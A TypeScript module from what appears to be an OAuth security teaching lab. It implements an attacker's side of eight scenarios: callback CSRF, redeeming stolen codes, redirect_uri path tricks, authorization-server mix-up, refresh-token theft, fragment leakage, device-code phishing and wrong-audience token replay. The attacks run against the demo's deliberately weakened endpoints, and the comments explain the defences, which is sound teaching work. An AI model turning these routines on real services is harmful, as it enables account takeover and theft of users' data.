/**
 * @module attacks
 *
 * What Mallory does with the real services, one function per scenario of the printer's attack lab (/lab).
 * She uses only what any stranger could: her own account, public endpoints, and what leaks to her site.
 */
import { type BackChannel, DEVICE_CODE_GRANT_TYPE, describeNetworkError } from '@oauth-demo/back-channel';
import type { AttackerConfig } from './config.js';
import { authorizeAs } from './mallory_browser.js';

/**
 * Mallory's side of every attack: her configuration and her server-to-server HTTP client, the same
 * @oauth-demo/back-channel (axios, one deadline per request, no redirects followed) as the printer's and Drive's.
 */
export interface Attacker {
  config: AttackerConfig;
  http: BackChannel['http'];
}

interface Answer {
  status: number;
  /** The JSON object of the answer; {} when there is none. */
  body: Record<string, unknown>;
  headers: { get(name: string): string | undefined };
}

/**
 * One call of hers on the back channel. An answer of any status is returned; no answer at all (nothing listening,
 * a timeout) is an Error in the words every service uses, shown on her site's error page.
 */
async function call(
  mallory: Attacker,
  url: string,
  options: { form?: Record<string, string>; accessToken?: string } = {},
): Promise<Answer> {
  try {
    const response = await mallory.http.request({
      method: options.form ? 'POST' : 'GET',
      url,
      headers: {
        ...(options.form ? { 'content-type': 'application/x-www-form-urlencoded' } : {}),
        ...(options.accessToken ? { authorization: `Bearer ${options.accessToken}` } : {}),
      },
      ...(options.form ? { data: new URLSearchParams(options.form).toString() } : {}),
    });
    const data: unknown = response.data;
    return {
      status: response.status,
      body: typeof data === 'object' && data !== null && !Array.isArray(data) ? (data as Record<string, unknown>) : {},
      headers: {
        get: (name) => {
          const value: unknown = response.headers[name.toLowerCase()];
          return typeof value === 'string' ? value : undefined;
        },
      },
    };
  } catch (error) {
    throw new Error(`No answer from ${url.split('?')[0]}: ${describeNetworkError(error)}.`);
  }
}

/** A token endpoint's answer (RFC 6749 §5.1, §5.2): the access token, or the error and its description. */
type TokenAnswer = { status: number; body: Record<string, unknown> } & (
  | { accessToken: string; error?: undefined }
  | { accessToken?: undefined; error: string; description: string }
);

/** POST a token request to the real auth server's token endpoint (or one of its lab copies, `path`). */
async function tokenRequest(mallory: Attacker, form: Record<string, string>, path = '/token'): Promise<TokenAnswer> {
  const { status, body } = await call(mallory, `${mallory.config.auth.internalUrl}${path}`, { form });
  if (status === 200 && typeof body.access_token === 'string') return { status, body, accessToken: body.access_token };
  return {
    status,
    body,
    error: typeof body.error === 'string' ? body.error : `HTTP ${status}`,
    description: typeof body.error_description === 'string' ? body.error_description : '',
  };
}

/**
 * RFC 6749 §4.1.3: redeem an authorization code as the lab's PUBLIC client (client_id, no secret), with the
 * code_verifier when she has one (RFC 7636 §4.5).
 */
function redeemCode(
  mallory: Attacker,
  form: { code: string; redirect_uri: string; code_verifier?: string | undefined },
): Promise<TokenAnswer> {
  return tokenRequest(mallory, {
    grant_type: 'authorization_code',
    code: form.code,
    redirect_uri: form.redirect_uri,
    client_id: mallory.config.labPublicClientId,
    ...(form.code_verifier ? { code_verifier: form.code_verifier } : {}),
  });
}

/**
 * Scenario 1, CSRF on the callback (RFC 9700 §4.7): an authorization response for MALLORY's account, addressed to
 * the printer's lab copy. She asks without state (she could not know the victim's anyway) and without PKCE.
 * Returns the callback URL she will make the victim's browser open.
 */
export async function callbackWithMallorysCode(mallory: Attacker): Promise<string> {
  const { config } = mallory;
  const request = new URL(`${config.auth.publicUrl}/authorize`);
  request.searchParams.set('response_type', 'code');
  request.searchParams.set('client_id', config.labClientId);
  request.searchParams.set('redirect_uri', config.labRedirectUri);
  request.searchParams.set('scope', 'photos.read');
  const answer = await authorizeAs(
    request.href,
    config.auth.internalUrl,
    config.mallory.username,
    config.mallory.password,
    mallory.http,
  );
  if (!answer.startsWith(`${config.labRedirectUri}?`) || !new URL(answer).searchParams.has('code')) {
    throw new Error(`The auth server did not give Mallory a code (it sent her to ${answer.slice(0, 200)}).`);
  }
  return answer;
}

export interface Redemption {
  success: boolean;
  summary: string;
  details: string[];
}

/**
 * Scenario 2, code interception (RFC 7636 §1, RFC 9700 §4.5): a code that leaked to her site is redeemed at the
 * token endpoint as the lab's PUBLIC client (a public client has no secret to stop her). Without PKCE that is all
 * it takes; with PKCE she would need the code_verifier, which never left the victim's printer.
 */
export async function redeemStolenCode(
  mallory: Attacker,
  code: string,
  extra: { redirect_uri?: string; code_verifier?: string } = {},
): Promise<Redemption> {
  const answer = await redeemCode(mallory, {
    code,
    redirect_uri: extra.redirect_uri ?? mallory.config.labRedirectUri,
    code_verifier: extra.code_verifier,
  });
  if (answer.error !== undefined)
    return {
      success: false,
      summary: `The auth server refused the stolen code: ${answer.error}.`,
      details: [`${answer.error}: ${answer.description}`],
    };
  return readPhotos(mallory, answer.accessToken, 'She redeemed the stolen code and read the victim’s photo list');
}

/** Drive's photo list (`path`: the real API or its lab copy), asked with a token she holds (RFC 6750 §2.1). */
async function photosAt(
  mallory: Attacker,
  accessToken: string,
  path = '/api/photos',
): Promise<{ answer: Answer; owner: string; titles: string[] } | { answer: Answer; owner?: undefined }> {
  const answer = await call(mallory, `${mallory.config.drive.internalUrl}${path}`, { accessToken });
  const { owner, photos } = answer.body;
  if (answer.status !== 200 || typeof owner !== 'string' || !Array.isArray(photos)) return { answer };
  const titles = photos.map((p: { title?: unknown }) => (typeof p?.title === 'string' ? p.title : '?'));
  return { answer, owner, titles };
}

/** With a token in hand: whose photos does Drive show her? */
async function readPhotos(mallory: Attacker, accessToken: string, what: string): Promise<Redemption> {
  const photos = await photosAt(mallory, accessToken);
  if (photos.owner === undefined)
    return { success: false, summary: `Drive refused her token (HTTP ${photos.answer.status}).`, details: [] };
  return {
    success: true,
    summary: `${what}: ${photos.owner}’s ${photos.titles.length} photos.`,
    details: [`owner: ${photos.owner}`, ...photos.titles],
  };
}

/**
 * Scenario 3, loose redirect_uri matching (RFC 9700 §4.1): a redirect_uri that STARTS WITH the lab copy's registered
 * one, yet, once the browser resolves its `..`, lands on the printer's careless "continue to" redirect
 * (`/lab/go?to=`), which forwards the answer, code included, to her site.
 */
export function craftedRedirectUri({ config }: Attacker, run: string): string {
  return `${config.labRedirectUri}/../go?to=${encodeURIComponent(`${config.attacker.publicUrl}/catch/${run}`)}`;
}

/**
 * Scenario 4, mix-up (RFC 9700 §4.4): Mallory runs an authorization server of her own ("Evil AS"). The printer's
 * lab copy knows two servers; the victim picked hers. Her authorization endpoint passes the request on, state and
 * code_challenge untouched, to the REAL auth server, as if the printer had sent it there. The real code then comes
 * back to the printer, which, without checking `iss`, sends it to the server it thinks it talks to: hers.
 */
export function passOnToRealServer({ config }: Attacker, query: Record<string, unknown>): string {
  const url = new URL(`${config.auth.publicUrl}/authorize`);
  for (const name of ['response_type', 'redirect_uri', 'state', 'code_challenge', 'code_challenge_method']) {
    if (typeof query[name] === 'string') url.searchParams.set(name, query[name]);
  }
  url.searchParams.set('client_id', config.labPublicClientId); // the lab copy's id at the real server (public knowledge)
  url.searchParams.set('scope', 'photos.read');
  return url.href;
}

/** Evil AS's token endpoint: the real code (and the printer's own code_verifier!) arrive here; she redeems them. */
export async function redeemAtRealServer(
  mallory: Attacker,
  form: { code: string; redirect_uri: string; code_verifier?: string },
): Promise<{ status: number; body: Record<string, unknown>; redemption: Redemption }> {
  const answer = await redeemCode(mallory, form);
  if (answer.error !== undefined)
    return {
      status: answer.status,
      body: answer.body,
      redemption: { success: false, summary: `The real auth server refused the code: ${answer.error}.`, details: [] },
    };
  return {
    status: 200,
    body: answer.body,
    redemption: await readPhotos(
      mallory,
      answer.accessToken,
      'Evil AS received the real code and redeemed it at the real auth server',
    ),
  };
}

/**
 * Scenario 7, refresh token theft (RFC 9700 §4.14.2): with a stolen refresh token of a public client (no secret to
 * stop her), Mallory asks for fresh access tokens herself. `endpoint` is the real token endpoint or the lab copy
 * that does not rotate. Returns her result and the refresh token to use next time (a new one when it rotated).
 */
export async function useStolenRefreshToken(
  mallory: Attacker,
  refreshToken: string,
  endpoint: 'real' | 'lab',
): Promise<{ redemption: Redemption; next: string }> {
  const answer = await tokenRequest(
    mallory,
    { grant_type: 'refresh_token', refresh_token: refreshToken, client_id: mallory.config.labPublicClientId },
    endpoint === 'lab' ? '/lab/no-rotation/token' : '/token',
  );
  if (answer.error !== undefined)
    return {
      redemption: {
        success: false,
        summary: `The auth server refused her refresh: ${answer.error}.`,
        details: [answer.description],
      },
      next: refreshToken,
    };
  const next = typeof answer.body.refresh_token === 'string' ? answer.body.refresh_token : refreshToken;
  const rotated = next !== refreshToken;
  const redemption = await readPhotos(
    mallory,
    answer.accessToken,
    `She refreshed with the stolen token${rotated ? ' (and got a new refresh token: rotation)' : ' (the same refresh token keeps working: no rotation)'}`,
  );
  return { redemption, next };
}

/**
 * Scenario 6, implicit leakage (RFC 9700 §2.1.2): her "filter widget", a third-party script on the lab copy's
 * callback page, reports the page's full address. An access token in the fragment is hers at once; a code is
 * worthless to her without its code_verifier.
 */
export async function useLeakedAddress(mallory: Attacker, address: string): Promise<Redemption> {
  let url: URL;
  try {
    url = new URL(address);
  } catch {
    return { success: false, summary: 'Her widget sent nothing useful.', details: [] };
  }
  const fragment = new URLSearchParams(url.hash.slice(1));
  const token = fragment.get('access_token');
  if (token) {
    const result = await readPhotos(
      mallory,
      token,
      'Her widget read the access token from the address (the fragment) and she used it',
    );
    return { ...result, details: ['Address seen by her script: …#access_token=…', ...result.details] };
  }
  const code = url.searchParams.get('code');
  if (code) {
    const tried = await redeemStolenCode(mallory, code, { redirect_uri: `${url.origin}${url.pathname}` });
    return {
      ...tried,
      summary: `Her widget read a code from the address, but: ${tried.summary}`,
      details: [
        'There is no token in the address of the code flow, and the code needs the code_verifier, which never left the printer.',
        ...tried.details,
      ],
    };
  }
  return { success: false, summary: 'Her widget found neither a token nor a code in the address.', details: [] };
}

export interface DeviceAuthorization {
  device_code: string;
  user_code: string;
  verification_uri: string;
  expires_in: number;
  interval: number;
}

/** Scenario 8, device code phishing (RFC 8628 §5.4): her "kiosk" starts a device flow, as any kiosk can. */
export async function startDeviceFlow(mallory: Attacker): Promise<DeviceAuthorization> {
  const { status, body } = await call(mallory, `${mallory.config.auth.internalUrl}/device_authorization`, {
    form: { client_id: mallory.config.kioskClientId, scope: 'photos.read' },
  });
  if (
    status !== 200 ||
    typeof body.device_code !== 'string' ||
    typeof body.user_code !== 'string' ||
    typeof body.verification_uri !== 'string'
  ) {
    throw new Error(`The auth server did not start a device flow (HTTP ${status}).`);
  }
  return {
    device_code: body.device_code,
    user_code: body.user_code,
    verification_uri: body.verification_uri,
    expires_in: Number(body.expires_in) || 600,
    interval: Number(body.interval) || 5,
  };
}

/** One poll of the token endpoint (RFC 8628 §3.4): a result, or 'pending' / 'slow_down'. */
export async function pollDeviceFlow(
  mallory: Attacker,
  deviceCode: string,
): Promise<Redemption | 'pending' | 'slow_down'> {
  const answer = await tokenRequest(mallory, {
    grant_type: DEVICE_CODE_GRANT_TYPE,
    device_code: deviceCode,
    client_id: mallory.config.kioskClientId,
  });
  if (answer.error === undefined)
    return readPhotos(mallory, answer.accessToken, 'Her kiosk got a token: you approved it');
  if (answer.error === 'authorization_pending') return 'pending';
  if (answer.error === 'slow_down') return 'slow_down';
  return { success: false, summary: `Her kiosk got no token: ${answer.error}.`, details: [answer.description] };
}

/**
 * Scenario 5, a token for the wrong audience (RFC 9068 §4, RFC 8707): her "Free photo filters API" receives, as it
 * should, an access token made for it. She replays it at Drive: at the real API (which checks that `aud` is Drive)
 * or at Drive's lab copy that believes any audience.
 */
export async function replayAtDrive(
  mallory: Attacker,
  accessToken: string,
  drive: 'real' | 'lab',
): Promise<Redemption> {
  const photos = await photosAt(mallory, accessToken, drive === 'lab' ? '/lab/no-aud/api/photos' : '/api/photos');
  if (photos.owner === undefined) {
    const { status, body, headers } = photos.answer;
    const challenge = headers.get('www-authenticate') ?? '';
    return {
      success: false,
      summary: `Drive refused the token (HTTP ${status}${typeof body.error === 'string' ? ` ${body.error}` : ''}).`,
      details: [
        typeof body.error_description === 'string' ? body.error_description : '',
        challenge ? `WWW-Authenticate: ${challenge}` : '',
      ].filter(Boolean),
    };
  }
  return {
    success: true,
    summary: `Her filters API replayed the token at Drive and read ${photos.owner}’s ${photos.titles.length} photos.`,
    details: [`owner: ${photos.owner}`, ...photos.titles],
  };
}
